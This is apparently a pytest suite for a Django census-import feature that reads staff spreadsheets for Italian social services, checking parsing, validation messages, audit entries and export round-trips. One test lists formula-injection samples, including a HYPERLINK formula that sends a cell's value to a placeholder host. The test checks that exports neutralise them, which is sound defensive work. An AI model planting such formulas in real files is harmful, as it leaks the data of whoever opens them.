"""The census import: reading, tolerant parsing, every message, preview counts, atomicity, idempotence."""

from __future__ import annotations

import datetime
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from openpyxl import load_workbook

from supervisione.audit.models import AuditEntry
from supervisione.census import vocabulary
from supervisione.census.exports import census_csv, census_xlsx, template_xlsx
from supervisione.census.importing.columns import HEADERS
from supervisione.census.importing.problems import ImportFileError
from supervisione.census.importing.read import read_table
from supervisione.census.importing.run import run_import
from supervisione.census.models import Census, Contract, Equipe, Person, Position, PostFunding, Profession, Service
from supervisione.census.queries import census_positions
from supervisione.census.tests.factories import (
    census_of,
    csv_file,
    organisation,
    person,
    position,
    row,
    tax_code,
    xlsx_file,
    xlsx_rows,
)
from supervisione.territory.models import Organisation, OrganisationKind
from supervisione.testing.pages import form_data
from supervisione.testing.world import World

FULL_TIME = Decimal(36)


@pytest.fixture
def census(world: World) -> Census:
    organisation("Comune di Maglie", OrganisationKind.COMUNE)
    return census_of(world)


def run(census: Census, content: bytes, **options: Any) -> Any:
    return run_import(census, content, filename="censimento.csv", full_time_hours=FULL_TIME, by=None, **options)


def messages(report: Any) -> list[tuple[int, str, str]]:
    return [(problem.row, problem.column, problem.message) for problem in report.errors]


def test_it_imports_a_valid_file_and_reimporting_it_changes_nothing(census: Census) -> None:
    content = csv_file(
        [
            row(1),
            row(2, **{"Profilo professionale": "Educatore", "Albo regione": "", "Albo sezione": "", "Albo numero": ""}),
        ]
    )
    report = run(census, content)
    assert (report.rows, report.valid, report.created, report.updated, report.unchanged) == (2, 2, 2, 0, 0)
    assert report.errors == []
    first = Position.objects.get(census=census, person__tax_code=tax_code(1))
    assert first.contract == Contract.PERMANENT
    assert first.weekly_hours == Decimal(36)
    assert first.start_date == datetime.date(2020, 9, 1)
    assert first.funding == PostFunding.MUNICIPAL
    assert [m.name for m in first.municipalities.all()] == ["Maglie"]
    assert first.person.albo_section == "B"
    assert first.person.email == "anna1@example.it"
    entries = AuditEntry.objects.count()

    again = run(census, content)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)
    assert AuditEntry.objects.count() == entries


def test_it_updates_what_changed_and_says_so(census: Census) -> None:
    run(census, csv_file([row(1), row(2)]))
    report = run(census, csv_file([row(1, **{"Ore settimanali": "18"}), row(2, Cognome="Bianchi")]))
    assert (report.created, report.updated, report.unchanged) == (0, 2, 0)
    changed = Position.objects.get(person__tax_code=tax_code(1))
    assert changed.weekly_hours == Decimal(18)
    assert Person.objects.get(tax_code=tax_code(2)).surname == "Bianchi"
    # The audit log keeps what each row changed, from which value to which.
    # (The Person of row 2 may have the same primary key as this Position: the content type tells them apart.)
    entry = AuditEntry.objects.get(
        content_type=ContentType.objects.get_for_model(Position), object_id=str(changed.pk), action="update"
    )
    assert entry.changes == {"weekly_hours": {"label": "ore", "old": "36", "new": "18"}}
    person_entry = AuditEntry.objects.get(object_repr="Bianchi Anna2")
    assert person_entry.changes["surname"] == {"label": "cognome", "old": "Rossi2", "new": "Bianchi"}
    summary = AuditEntry.objects.filter(object_id=str(census.pk)).order_by("pk").first()
    assert summary is not None
    assert "2 posizioni create" in summary.message


def test_it_outdates_the_edit_pages_of_the_positions_it_changes(census: Census, client_for: Any) -> None:
    run(census, csv_file([row(1), row(2)]))
    changed, kept = (Position.objects.get(census=census, person__tax_code=tax_code(n)) for n in (1, 2))
    client = client_for("referent")
    urls = [reverse("census:position_edit", args=[held.pk]) for held in (changed, kept)]
    pages = [form_data(client.get(url).content.decode()) for url in urls]
    run(census, csv_file([row(1, **{"Ore settimanali": "18"}), row(2)]))
    # The page of the changed position was opened before the import: saving it would put 36 hours back.
    refused = client.post(urls[0], {**pages[0], "weekly_hours": "24"})
    assert refused.status_code == 200
    assert "La posizione è stata modificata da un altro utente" in refused.content.decode()
    changed.refresh_from_db()
    assert changed.weekly_hours == Decimal(18)
    # The position the file left as it was keeps its version: its open page still saves.
    assert client.post(urls[1], {**pages[1], "weekly_hours": "30"}).status_code == 302
    kept.refresh_from_db()
    assert kept.weekly_hours == Decimal(30)


def test_it_writes_nothing_when_one_row_fails(census: Census) -> None:
    people, positions, audit = Person.objects.count(), Position.objects.count(), AuditEntry.objects.count()
    report = run(census, csv_file([row(1), row(2, **{"Ore settimanali": "tante"}), row(3)]))
    assert (report.rows, report.valid) == (3, 2)
    assert messages(report) == [
        (3, "Ore settimanali", "«tante» non è un numero di ore (esempi validi: 18, 18,5, 50%).")
    ]
    assert not report.written
    assert (Person.objects.count(), Position.objects.count(), AuditEntry.objects.count()) == (people, positions, audit)


def test_it_imports_only_the_valid_rows_when_asked(census: Census) -> None:
    report = run(census, csv_file([row(1), row(2, **{"Ore settimanali": "tante"}), row(3)]), only_valid=True)
    assert report.written
    assert sorted(Position.objects.filter(census=census).values_list("person__tax_code", flat=True)) == sorted(
        [tax_code(1), tax_code(3)]
    )


def test_it_writes_nothing_on_a_dry_run(census: Census) -> None:
    report = run(census, csv_file([row(1)]), dry_run=True)
    assert report.created == 1
    assert not Position.objects.exists()


@pytest.mark.parametrize(
    ("encoding", "delimiter"), [("utf-8", ";"), ("utf-8", ","), ("cp1252", ";"), ("utf-8-sig", ";")]
)
def test_it_reads_csv_in_either_encoding_and_separator(census: Census, encoding: str, delimiter: str) -> None:
    content = csv_file(
        [row(1, Cognome="D'Àmico", **{"Comuni di servizio": "Maglie", "Ore settimanali": "18,5"})],
        delimiter=delimiter,
        encoding=encoding,
    )
    report = run(census, content)
    assert report.errors == []
    saved = Position.objects.get(census=census)
    assert saved.person.surname == "D'Àmico"
    assert saved.weekly_hours == Decimal("18.5")


def test_it_matches_headers_ignoring_case_accents_spaces_and_order(census: Census) -> None:
    headers = list(reversed(HEADERS))
    headers[headers.index("Codice fiscale")] = "  CODICE   fiscale "
    headers[headers.index("E-mail")] = "email"
    headers[headers.index("Profilo professionale")] = "Profìlo Professionale"
    data = row(1)
    data["  CODICE   fiscale "] = data["Codice fiscale"]
    data["email"] = data["E-mail"]
    data["Profìlo Professionale"] = data["Profilo professionale"]
    report = run(census, csv_file([data], headers=[*headers, "Note"]))
    assert report.errors == []
    assert report.created == 1
    assert report.notices == ["La colonna «Note» non è prevista: viene ignorata."]


def test_it_reports_missing_and_repeated_columns_on_row_one(census: Census) -> None:
    headers = [h for h in HEADERS if h not in ("Servizio", "Tipo contratto")] + ["cognome"]
    report = run(census, csv_file([row(1)], headers=headers))
    assert messages(report) == [
        (1, "Servizio", "Manca la colonna «Servizio»."),
        (1, "Tipo contratto", "Manca la colonna «Tipo contratto»."),
        (1, "cognome", "La colonna «Cognome» compare due volte."),
    ]
    assert report.valid == 0
    assert not Position.objects.exists()


def test_it_refuses_files_without_header_or_rows(census: Census) -> None:
    with pytest.raises(ImportFileError, match="non contiene righe di dati"):
        read_table(csv_file([]), "csv")
    with pytest.raises(ImportFileError, match="intestazione"):
        read_table(b"\r\n\r\n", "csv")
    with pytest.raises(ImportFileError, match="Il file Excel non si può leggere"):
        read_table(b"PK\x03\x04 not really a zip", "xlsx")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("AS", Profession.SOCIAL_WORKER),
        ("a.s.", Profession.SOCIAL_WORKER),
        ("ASSISTENTE  SOCIALE", Profession.SOCIAL_WORKER),
        ("Assistente sociale specialista", Profession.SPECIALIST_SOCIAL_WORKER),
        ("educatrice", Profession.EDUCATOR),
        ("Psicologa", Profession.PSYCHOLOGIST),
        ("sociologo", Profession.SOCIOLOGIST),
        ("O.S.S.", Profession.OSS),
        ("mediatrice culturale", Profession.MEDIATOR),
        ("Istruttore amministrativo", Profession.ADMINISTRATIVE),
        ("altro", Profession.OTHER),
    ],
)
def test_it_reads_professions_tolerantly(census: Census, text: str, expected: str) -> None:
    section = "A" if expected == Profession.SPECIALIST_SOCIAL_WORKER else "B"
    run(census, csv_file([row(1, **{"Profilo professionale": text, "Albo sezione": section})]))
    assert Person.objects.get(tax_code=tax_code(1)).profession == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("T.I.", Contract.PERMANENT),
        ("ti", Contract.PERMANENT),
        ("indeterminato", Contract.PERMANENT),
        ("T.D.", Contract.FIXED_TERM),
        ("Tempo Determinato", Contract.FIXED_TERM),
        ("interinale", Contract.AGENCY),
        ("libero professionale", Contract.FREELANCE),
        ("P.IVA", Contract.FREELANCE),
        ("cooperativa", Contract.CONTRACTOR),
    ],
)
def test_it_reads_contracts_tolerantly(census: Census, text: str, expected: str) -> None:
    run(census, csv_file([row(1, **{"Tipo contratto": text})]))
    assert Position.objects.get().contract == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("SSP", Service.SSP),
        ("PUA", Service.SEGRETARIATO),
        ("Segretariato sociale", Service.SEGRETARIATO),
        ("uvm", Service.UVM),
        ("Pronto intervento sociale", Service.PIS),
        ("altro", Service.OTHER),
    ],
)
def test_it_reads_services_tolerantly(census: Census, text: str, expected: str) -> None:
    run(census, csv_file([row(1, Servizio=text)]))
    assert Position.objects.get().service == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [("18", "18"), ("18,5", "18.5"), ("18.5", "18.5"), ("50%", "18"), ("100 %", "36"), ("12,25", "12.25")],
)
def test_it_reads_hours_the_italian_way(census: Census, text: str, expected: str) -> None:
    run(census, csv_file([row(1, **{"Ore settimanali": text})]))
    assert Position.objects.get().weekly_hours == Decimal(expected)


@pytest.mark.parametrize("text", ["17/04/2023", "17-04-2023", "2023-04-17", "17/04/23"])
def test_it_reads_dates_in_every_accepted_format(census: Census, text: str) -> None:
    run(census, csv_file([row(1, **{"Data inizio": text})]))
    assert Position.objects.get().start_date == datetime.date(2023, 4, 17)


def test_it_reads_excel_cells_typed_as_numbers_dates_and_percentages(census: Census) -> None:
    values: dict[str, Any] = row(1)
    values["Ore settimanali"] = 0.5
    values["Data inizio"] = datetime.date(2021, 3, 1)
    values["Albo numero"] = 1234.0
    workbook_bytes = xlsx_file(xlsx_rows([values, row(2, **{"Ore settimanali": "24"})]))
    workbook = load_workbook(__import__("io").BytesIO(workbook_bytes))
    sheet = workbook.active
    assert sheet is not None
    sheet.cell(row=2, column=HEADERS.index("Ore settimanali") + 1).number_format = "0%"
    sheet.cell(row=3, column=HEADERS.index("Ore settimanali") + 1).value = 24
    buffer = __import__("io").BytesIO()
    workbook.save(buffer)
    report = run(census, buffer.getvalue())
    assert report.errors == []
    first = Position.objects.get(person__tax_code=tax_code(1))
    assert first.weekly_hours == Decimal(18)
    assert first.start_date == datetime.date(2021, 3, 1)
    assert first.person.albo_number == "1234"
    assert Position.objects.get(person__tax_code=tax_code(2)).weekly_hours == Decimal(24)


ROW_MESSAGES = [
    ({"Cognome": ""}, "Cognome", "«Cognome» è obbligatorio."),
    ({"Nome": "x" * 101}, "Nome", "«Nome» ha al massimo 100 caratteri."),
    ({"Codice fiscale": ""}, "Codice fiscale", "«Codice fiscale» è obbligatorio."),
    (
        {"Codice fiscale": "RSSMRA85T10A562"},
        "Codice fiscale",
        "Il codice fiscale di una persona ha 16 caratteri (ne sono stati indicati 15).",
    ),
    (
        {"Codice fiscale": "RSSMRA85T10A562X"},
        "Codice fiscale",
        "Il carattere di controllo del codice fiscale non corrisponde: verifica di averlo trascritto bene.",
    ),
    (
        {"Profilo professionale": "astronauta"},
        "Profilo professionale",
        (
            "«astronauta» non è un profilo professionale riconosciuto. Valori accettati: «Assistente sociale», "
            "«Assistente sociale specialista», «Educatore professionale», «Psicologo», «Sociologo», "
            "«Operatore socio-sanitario (OSS)», «Mediatore», «Amministrativo», «Altro»."
        ),
    ),
    ({"Albo regione": ""}, "Albo regione", "Per un assistente sociale indica la regione dell'Albo in cui è iscritto."),
    ({"Albo regione": "Atlantide"}, "Albo regione", "«Atlantide» non è una regione italiana (es. Puglia, Veneto)."),
    ({"Albo sezione": ""}, "Albo sezione", "Per un assistente sociale indica la sezione dell'Albo (A o B)."),
    ({"Albo sezione": "C"}, "Albo sezione", "La sezione dell'Albo è A o B, non «C»."),
    ({"Albo numero": ""}, "Albo numero", "Per un assistente sociale indica il numero di iscrizione all'Albo."),
    ({"Albo numero": "1" * 21}, "Albo numero", "«Albo numero» ha al massimo 20 caratteri."),
    (
        {"Profilo professionale": "AS specialista", "Albo sezione": "B"},
        "Albo sezione",
        "L'assistente sociale specialista è iscritto alla sezione A dell'Albo, non alla B.",
    ),
    ({"Ente datore di lavoro": ""}, "Ente datore di lavoro", "«Ente datore di lavoro» è obbligatorio."),
    ({"Servizio": ""}, "Servizio", "«Servizio» è obbligatorio."),
    (
        {"Tipo contratto": "a chiamata"},
        "Tipo contratto",
        (
            "«a chiamata» non è un tipo di contratto riconosciuto (es. T.I., T.D.). Valori accettati: «Tempo "
            "indeterminato», «Tempo determinato», «Somministrazione», «Libero-professionale», «Dipendente di ente "
            "gestore/cooperativa»."
        ),
    ),
    ({"Ore settimanali": ""}, "Ore settimanali", "«Ore settimanali» è obbligatorio."),
    (
        {"Ore settimanali": "0"},
        "Ore settimanali",
        "Le ore settimanali devono essere più di 0 e al massimo 48 (indicate: 0).",
    ),
    (
        {"Ore settimanali": "50"},
        "Ore settimanali",
        "Le ore settimanali devono essere più di 0 e al massimo 48 (indicate: 50).",
    ),
    (
        {"Ore settimanali": "200%"},
        "Ore settimanali",
        "Le ore settimanali devono essere più di 0 e al massimo 48 (indicate: 72).",
    ),
    (
        {"Ore settimanali": "18,125"},
        "Ore settimanali",
        "Le ore settimanali hanno al massimo due decimali (indicate: 18,125).",
    ),
    ({"Ore settimanali": "metà%"}, "Ore settimanali", "«metà%» non è una percentuale del tempo pieno (es. 50%)."),
    (
        {"Data inizio": "31/02/2023"},
        "Data inizio",
        "«31/02/2023» non è una data valida (usa gg/mm/aaaa, ad esempio 17/04/2023).",
    ),
    ({"Data fine": "ieri"}, "Data fine", "«ieri» non è una data valida (usa gg/mm/aaaa, ad esempio 17/04/2023)."),
    ({"Data fine": "01/01/2020"}, "Data fine", "La data di fine (01/01/2020) precede la data di inizio (01/09/2020)."),
    (
        {"Finanziamento posto": "lotteria"},
        "Finanziamento posto",
        (
            "«lotteria» non è un finanziamento riconosciuto. Valori accettati: «Bilancio comunale», «FNPS», «Fondo "
            "Povertà / quota servizi», «PON / PNRR», «Altro»."
        ),
    ),
    (
        {"Comuni di servizio": "Maglie, Atlantide"},
        "Comuni di servizio",
        "«Atlantide» non è un comune dell'ATS PUG_MAGLIE.",
    ),
    ({"E-mail": "anna@"}, "E-mail", "«anna@» non è un indirizzo e-mail valido."),
]


@pytest.mark.parametrize(("changes", "column", "message"), ROW_MESSAGES, ids=[m[2][:40] for m in ROW_MESSAGES])
def test_it_explains_every_problem_with_row_and_column(
    census: Census, changes: dict[str, str], column: str, message: str
) -> None:
    report = run(census, csv_file([row(1), row(2, **changes)]))
    assert messages(report) == [(3, column, message)]
    assert not Position.objects.exists()


def test_it_refuses_an_equipe_name_outside_the_equipe_service(census: Census) -> None:
    data = row(1)
    data["Équipe"] = "Équipe PUA"
    report = run(census, csv_file([data], headers=[*HEADERS, "Équipe"]))
    assert messages(report) == [(2, "Équipe", "L'équipe si indica solo per il servizio «Équipe multidisciplinare».")]


def test_it_puts_equipe_positions_in_a_named_equipe(census: Census) -> None:
    first = row(1, Servizio="Équipe multidisciplinare")
    first["Équipe"] = "Équipe minori"
    second = row(2, Servizio="equipe", **{"Profilo professionale": "psicologo"})
    report = run(census, csv_file([first, second], headers=[*HEADERS, "Équipe"]))
    assert report.errors == []
    assert sorted(Equipe.objects.filter(ambito=census.ambito).values_list("name", flat=True)) == [
        "Équipe minori",
        "Équipe multidisciplinare",
    ]
    assert Equipe.objects.filter(positions__census=census).distinct().count() == 2


def test_it_reports_the_same_person_with_different_data(census: Census) -> None:
    report = run(census, csv_file([row(1), row(1, Cognome="Verdi", Servizio="PUA")]))
    message = (
        f"Il codice fiscale {tax_code(1)} compare alle righe 2, 3 con dati diversi (cognome): una persona ha gli "
        "stessi dati in ogni riga."
    )
    assert messages(report) == [(2, "Codice fiscale", message), (3, "Codice fiscale", message)]


def test_it_reports_a_repeated_position(census: Census) -> None:
    report = run(census, csv_file([row(1), row(1)]))
    assert messages(report) == [
        (
            3,
            "Codice fiscale",
            "Riga ripetuta: la stessa persona con lo stesso ente e lo stesso servizio è già alla riga 2.",
        )
    ]


def test_it_keeps_one_person_across_ambiti(world: World, census: Census) -> None:
    casarano = Census.objects.get(campaign=census.campaign, ambito=world.casarano)
    run(census, csv_file([row(1, **{"Ore settimanali": "18"})]))
    report = run(casarano, csv_file([row(1, **{"Ore settimanali": "18", "Comuni di servizio": "Casarano"})]))
    assert report.errors == []
    assert Person.objects.filter(tax_code=tax_code(1)).count() == 1
    assert Position.objects.filter(person__tax_code=tax_code(1)).count() == 2


def test_it_creates_unknown_employers_with_a_guessed_kind(census: Census) -> None:
    report = run(
        census,
        csv_file(
            [
                row(1, **{"Ente datore di lavoro": "Comune di Scorrano"}),
                row(2, **{"Ente datore di lavoro": "Cooperativa Sociale Aurora Onlus"}),
                row(3, **{"Ente datore di lavoro": "comune di maglie"}),
            ]
        ),
    )
    assert report.errors == []
    assert Organisation.objects.get(name="Comune di Scorrano").kind == OrganisationKind.COMUNE
    assert Organisation.objects.get(name="Cooperativa Sociale Aurora Onlus").kind == OrganisationKind.COOPERATIVE
    assert Organisation.objects.filter(name__iexact="comune di maglie").count() == 1


def test_it_does_not_erase_an_email_with_an_empty_cell(census: Census) -> None:
    run(census, csv_file([row(1)]))
    report = run(census, csv_file([row(1, **{"E-mail": ""})]))
    assert report.unchanged == 1
    assert Person.objects.get().email == "anna1@example.it"


ON_BEHALF = "Per conto dell'ATS"


def flags_of(census: Census) -> dict[str, bool]:
    return dict(Position.objects.filter(census=census).values_list("person__tax_code", "on_behalf_of_ambito"))


def test_it_reads_who_works_for_the_ambito_on_behalf_of_another_body(census: Census) -> None:
    headers = [*HEADERS, ON_BEHALF]
    asl = {"Ente datore di lavoro": "ASL Lecce"}
    content = csv_file(
        [row(1, **asl, **{ON_BEHALF: "Sì"}), row(2, **asl, **{ON_BEHALF: "no"}), row(3, **asl)], headers=headers
    )
    report = run(census, content)
    assert report.errors == []
    assert flags_of(census) == {tax_code(1): True, tax_code(2): False, tax_code(3): False}
    assert [p.counts_for_c797 for p in census_positions(census)] == [True, False, False]
    # The export carries the answer, and reads back unchanged.
    exported = census_xlsx(list(census_positions(census)))
    assert ON_BEHALF in [cell.value for cell in load_workbook(__import__("io").BytesIO(exported))["Personale"][1]]
    assert (run(census, exported).unchanged, run(census, census_csv(list(census_positions(census)))).unchanged) == (
        3,
        3,
    )
    # A file with the column changes it, with an audit entry; one without the column leaves it alone.
    report = run(census, csv_file([row(1, **asl, **{ON_BEHALF: ""})], headers=headers))
    assert report.updated == 1
    assert flags_of(census)[tax_code(1)] is False
    change = AuditEntry.objects.filter(code="census.position.imported").latest("pk").changes["on_behalf_of_ambito"]
    assert (change["old"], change["new"]) == ("sì", "no")
    Position.objects.filter(person__tax_code=tax_code(1)).update(on_behalf_of_ambito=True)
    assert run(census, csv_file([row(1, **asl)])).unchanged == 1
    assert flags_of(census)[tax_code(1)] is True


def report_rows(census: Census) -> dict[str, bool]:
    return dict(Position.objects.filter(census=census).values_list("person__tax_code", "on_behalf_of_ambito"))


def test_it_explains_an_answer_it_does_not_understand(census: Census) -> None:
    report = run(census, csv_file([row(1, **{ON_BEHALF: "forse"})], headers=[*HEADERS, ON_BEHALF]))
    assert messages(report) == [
        (2, ON_BEHALF, "«forse» non è una risposta: scrivi sì oppure no (una cella vuota vale no).")
    ]


def test_it_accepts_all_the_municipalities_of_the_ambito(census: Census) -> None:
    run(census, csv_file([row(1, **{"Comuni di servizio": "tutti"})]))
    assert [m.name for m in Position.objects.get().municipalities.all()] == ["Maglie"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_it_exports_in_the_import_layout_so_that_a_round_trip_changes_nothing(census: Census, fmt: str) -> None:
    run(census, csv_file([row(1), row(2, **{"Ore settimanali": "18,5", "Data fine": "31/12/2025"})]))
    positions = list(census_positions(census))
    content = census_xlsx(positions) if fmt == "xlsx" else census_csv(positions)
    report = run(census, content)
    assert report.errors == []
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_round_trip_keeps_names_that_look_like_formulas(census: Census, fmt: str) -> None:
    """The export writes them as text (the CSV with a quote in front, OWASP's rule); the import takes the quote
    off again, so that the names come back as they were."""
    names = ['=HYPERLINK("http://esempio.invalid/?d="&C2,"Apri")', "@SUM(1+1)", "+1+1", "-2+3"]
    run(census, csv_file([row(number, Cognome=name) for number, name in enumerate(names, start=1)]))
    assert sorted(Person.objects.values_list("surname", flat=True)) == sorted(names)
    positions = list(census_positions(census))
    content = census_xlsx(positions) if fmt == "xlsx" else census_csv(positions)
    report = run(census, content)
    assert report.errors == []
    assert (report.created, report.updated, report.unchanged) == (0, 0, 4)
    assert sorted(Person.objects.values_list("surname", flat=True)) == sorted(names)


def test_it_writes_typed_cells_in_the_xlsx_export(census: Census) -> None:
    run(census, csv_file([row(1, **{"Ore settimanali": "18,5"})]))
    workbook = load_workbook(__import__("io").BytesIO(census_xlsx(list(census_positions(census)))))
    sheet = workbook["Personale"]
    headers = [cell.value for cell in sheet[1]]
    assert headers[: len(HEADERS)] == HEADERS
    values = {header: cell.value for header, cell in zip(headers, sheet[2], strict=False)}
    assert values["Ore settimanali"] == 18.5
    assert values["Data inizio"] == datetime.datetime(2020, 9, 1)  # noqa: DTZ001  (openpyxl reads naive dates)


def test_the_template_has_the_headers_and_an_instructions_sheet() -> None:
    workbook = load_workbook(__import__("io").BytesIO(template_xlsx()))
    assert workbook.sheetnames[:2] == ["Personale", "Istruzioni"]
    assert [cell.value for cell in workbook["Personale"][1]][: len(HEADERS)] == HEADERS
    assert workbook["Personale"].max_row == 1 or all(
        cell.value is None for row_ in workbook["Personale"].iter_rows(min_row=2) for cell in row_
    )
    assert "Ore settimanali" in [cell.value for cell in workbook["Istruzioni"]["A"]]


def test_importing_the_empty_template_says_it_has_no_rows() -> None:
    with pytest.raises(ImportFileError, match="non contiene righe di dati"):
        read_table(template_xlsx(), "xlsx")


def test_it_counts_positions_existing_in_the_census_but_not_in_the_file(census: Census) -> None:
    other = person(99)
    position(census, other)
    report = run(census, csv_file([row(1)]))
    assert report.not_in_file == 1
    assert Position.objects.filter(census=census).count() == 2


def test_it_recognises_common_service_names_and_keeps_an_unknown_one_as_altro_with_a_warning(census: Census) -> None:
    rows = [
        row(1, Servizio="Sportello sociale"),
        row(2, Servizio="Tutela minori"),
        row(3, Servizio="UVMD"),
        row(4, Servizio="Ufficio di Piano"),
        row(5, Servizio="  Centro per la famiglia "),
        row(6, Servizio="ufficio di piano", **{"Ente datore di lavoro": "Comune di Poggiardo"}),
    ]
    report = run(census, csv_file(rows))
    assert report.errors == []
    assert report.written
    services = {
        position.person.surname: (position.service, position.service_detail)
        for position in Position.objects.filter(census=census).select_related("person")
    }
    assert sorted(services.values()) == sorted(
        [
            (Service.SEGRETARIATO, ""),
            (Service.SSP, ""),
            (Service.UVM, ""),
            (Service.OTHER, "Ufficio di Piano"),
            (Service.OTHER, "Centro per la famiglia"),
            (Service.OTHER, "ufficio di piano"),
        ]
    )
    [notice] = [text for text in report.notices if text.startswith("Servizi non riconosciuti")]
    assert "«Ufficio di Piano» (riga 5)" in notice
    assert "«Centro per la famiglia» (riga 6)" in notice
    position = Position.objects.get(census=census, service_detail="Centro per la famiglia")
    assert position.service_text == "Altro: Centro per la famiglia"
    # The export writes the name as given: imported again, nothing changes.
    again = run(census, census_csv(census_positions(census)))
    assert (again.created, again.updated) == (0, 0)


@pytest.mark.parametrize(
    ("choices", "read"),
    [
        (Service, vocabulary.read_service),
        (Contract, vocabulary.read_contract),
        (Profession, vocabulary.read_profession),
        (PostFunding, vocabulary.read_funding),
    ],
)
def test_every_label_the_export_writes_is_read_back(choices: Any, read: Any) -> None:
    # "Unità di valutazione multidimensionale (UVM)" and "Operatore socio-sanitario (OSS)" were not.
    assert {str(label): read(str(label)) for label in choices.labels} == dict(
        zip(map(str, choices.labels), choices.values, strict=True)
    )
